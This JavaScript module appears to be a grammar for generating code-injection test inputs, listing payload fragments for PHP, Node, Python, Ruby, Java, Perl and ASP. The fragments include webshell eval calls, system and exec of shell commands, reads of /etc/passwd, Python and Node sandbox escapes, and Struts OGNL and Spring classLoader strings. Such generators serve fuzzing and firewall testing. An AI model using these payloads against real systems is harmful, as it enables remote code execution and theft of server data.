/** Program code of servers: PHP, Node, Python, Ruby, Java, Perl, ASP. */
import { lines } from './grammar.mjs'

export const CODE = {
  codei: lines`
    <?php §php§ ?>
    <?php §php§
    <?= §phpx§ ?>
    §q3§;§php§//
    §q3§.§phpx§.§q3§
    §phpx§
    §phpx§;
    §php§
    {\${§phpx§}}
    \${@§phpx§}
    \${§phpx§}
    @§phpx§
    <? §php§ ?>
    <% §asp§ %>
    §node§
    §node§
    §q3§+§node§+§q3§
    §q3§;§node§;//
    §node§;
    §python§
    §python§
    §q3§+§python§+§q3§
    §ruby§
    §ruby§
    §java§
    §java§
    §perl§
    §asp§
    §val§;§phpx§
    §val§;§node§
    return §node§
    while(1);
    while(true){}
    for(;;){}
    while(!§n§)
    §fn§(§arg§)
    §fn§(§arg§);
    §fn§ (§arg§)
    §q3§;§fn§(§arg§);§q3§
    )§fn§(§arg§)(
    $_GET[§n§]($_GET[§n§])
    $__[@_](§nn§)
    @{[§fn§(§arg§)]}
    §rnd§::$§rnd§()
    §fn§()
    $_=[];$_=@"$_";
    $§rnd§=§q3§system§q3§;$§rnd§(§q3§id§q3§);
    (system)(id)
    [php]§php§[/php]
  `,
  q3: ["'", '"'],
  phpx: [
    'phpinfo()',
    "system('§shell2§')",
    "exec('§shell2§')",
    "shell_exec('§shell2§')",
    "passthru('§shell2§')",
    'system($_GET["c"])',
    "eval($_POST['x'])",
    "assert('phpinfo()')",
    "file_get_contents('/etc/passwd')",
    "base64_decode('§b64§')",
    'eval(base64_decode("§b64§"))',
    "call_user_func('system','id')",
    "preg_replace('/.*/e','phpinfo()','')",
    "include('/etc/passwd')",
    "popen('id','r')",
    "proc_open('id',$a,$b)",
    'print(md5(§num§))',
    "die(md5('§rnd§'))",
    'var_dump(§num§)',
    'print_r(scandir("/"))',
    "highlight_file('index.php')",
    "create_function('','phpinfo();')",
    "array_map('system',array('id'))",
    "fopen('/etc/passwd','r')",
    'get_defined_vars()',
    "unlink('index.php')",
    "file_put_contents('x.php','<?php ?>')",
    'ini_get("disable_functions")',
    "putenv('LD_PRELOAD=x')",
    'chr(§nn§).chr(§nn§)',
    "readfile('/etc/hosts')",
    "str_rot13('flfgrz')('vq')",
    "gzinflate(base64_decode('§b64§'))",
    'phpversion()',
    'getenv("PATH")',
    "require_once '/etc/passwd'",
    'curl_exec($ch)',
    "mail('a','b','c')",
    'posix_getuid()',
    'session_start()',
    "hex2bin('§hex§')",
  ],
  php: [
    '§phpx§;',
    'echo §phpx§;',
    '@eval($_POST[§rnd§]);',
    'system($_GET[0]);',
    '$a=§phpx§;',
    'die();',
    'print(§num§*§num§);',
    '@§phpx§;',
    'echo md5(§n§);',
    'echo `§shell2§`;',
  ],
  shell2: ['id', 'ls', 'whoami', 'cat /etc/passwd', 'uname -a', 'dir', 'sleep §n§'],
  node: [
    "require('child_process').exec('§shell2§')",
    "require('child_process').execSync('§shell2§').toString()",
    "global.process.mainModule.require('child_process').execSync('§shell2§')",
    "process.mainModule.require('fs').readFileSync('/etc/passwd')",
    "require('fs').readdirSync('/')",
    'process.exit()',
    'process.env',
    'process["env"]["§rnd§"]',
    "this.constructor.constructor('return process')()",
    '(function(){return process.env})()',
    "new Function('return this')()",
    "eval('§num§+§num§')",
    "setTimeout('§rnd§',1000)",
    'while(1){}',
    "import('fs').then(m=>m.readFileSync('/etc/passwd'))",
    "child_process.spawn('id')",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    '(()=>{return process.version})()',
    'global.process.kill(process.pid)',
    'this.process.binding',
    'constructor.constructor("return process")().mainModule',
    "module.require('os').hostname()",
    'console.log(process.env)',
    'response.end(1)',
    "Reflect.construct(Function,['x'])",
  ],
  python: [
    "__import__('os').system('§shell2§')",
    "__import__('os').popen('§shell2§').read()",
    'eval(\'__import__("os")\')',
    'exec(\'import os;os.system("§shell2§")\')',
    "import os; os.system('§shell2§')",
    "open('/etc/passwd').read()",
    "__import__('subprocess').check_output('§shell2§',shell=True)",
    '().__class__.__bases__[0].__subclasses__()',
    '[].__class__.__base__.__subclasses__()[§nn§]',
    "__builtins__.__import__('os')",
    "globals()['__builtins__']",
    "compile('§rnd§','','exec')",
    "os.popen('§shell2§').read()",
    "subprocess.call(['§shell2§'])",
    "__import__('time').sleep(§n§)",
    "print(open('/etc/hosts').read())",
    "lambda: __import__('os')",
    "getattr(__import__('os'),'system')('id')",
    'import socket,subprocess',
  ],
  ruby: [
    "system('§shell2§')",
    '`§shell2§`',
    '%x(§shell2§)',
    "exec '§shell2§'",
    "IO.popen('§shell2§').read",
    "Kernel.exec('§shell2§')",
    "File.read('/etc/passwd')",
    "File.open('/etc/passwd').read",
    "Process.spawn('§shell2§')",
    "eval('§num§')",
    "Dir.entries('/')",
    "open('|§shell2§')",
    "Open3.capture2('§shell2§')",
    'send(:system,"§shell2§")',
    "Kernel.open('|id')",
    'Object.const_get(:Kernel)',
    'instance_eval{`id`}',
  ],
  java: [
    "Runtime.getRuntime().exec('§shell2§')",
    'java.lang.Runtime.getRuntime().exec("§shell2§")',
    'new java.lang.ProcessBuilder("§shell2§").start()',
    'T(java.lang.Runtime).getRuntime().exec("§shell2§")',
    "(#a=@java.lang.Runtime@getRuntime().exec('§shell2§'))",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)(#cmd='§shell2§')}",
    "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
    'redirect:${#context["xwork.MethodAccessor.denyMethodExecution"]}',
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=§rnd§',
    "''.getClass().forName('java.lang.Runtime')",
    'new javax.script.ScriptEngineManager().getEngineByName("js").eval("§num§")',
    '@java.lang.System@getProperty("user.dir")',
    'java.lang.Thread.sleep(§num§)',
    '#rt=@java.lang.Runtime@getRuntime()',
    "groovy.util.Eval.me('1')",
    '"§shell2§".execute().text',
  ],
  perl: [
    "system('§shell2§');",
    'print `§shell2§`;',
    'use Socket;',
    "open(F,'/etc/passwd');",
    "exec('§shell2§');",
    'qx(§shell2§)',
    '@{[system §shell2§]}',
    '${\\system(§shell2§)}',
    'require "/etc/passwd";',
  ],
  asp: [
    'Response.Write(§num§*§num§)',
    'eval request("§rnd§")',
    'CreateObject("WScript.Shell").Exec("§shell2§")',
    "Server.CreateObject('WScript.Shell')",
    'Execute(Request("x"))',
    'ExecuteGlobal(Request("§rnd§"))',
    'new ActiveXObject("WScript.Shell").Run("calc")',
  ],
  fn: [
    'system',
    'exec',
    'eval',
    'assert',
    'passthru',
    'shell_exec',
    'popen',
    'call_user_func',
    'call_user_func_array',
    'phpinfo',
    'file_get_contents',
    'fopen',
    'readfile',
    'include',
    'require',
    'base64_decode',
    'unserialize',
    'create_function',
    'array_map',
    'var_dump',
    'print_r',
    'show_source',
    'putenv',
    'ini_set',
    'proc_open',
    'pcntl_exec',
    'preg_replace',
    'usort',
    'gzuncompress',
    'bzdecompress',
    'curl_init',
    'fsockopen',
    'move_uploaded_file',
    'chmod',
    'mkdir',
    'opendir',
    'scandir',
    'getenv',
    'posix_kill',
    'mysql_query',
    'simplexml_load_string',
    'parse_str',
    'extract',
    'register_shutdown_function',
    'set_error_handler',
    'is_callable',
    'function_exists',
    'str_repeat',
    'array_walk',
  ],
  arg: [
    '',
    '1',
    "'§shell2§'",
    '"§shell2§"',
    '$_GET[1]',
    "'/etc/passwd'",
    '$x',
    '§num§',
    "'§b64§'",
    '$_POST["a"]',
    '[]',
  ],
}
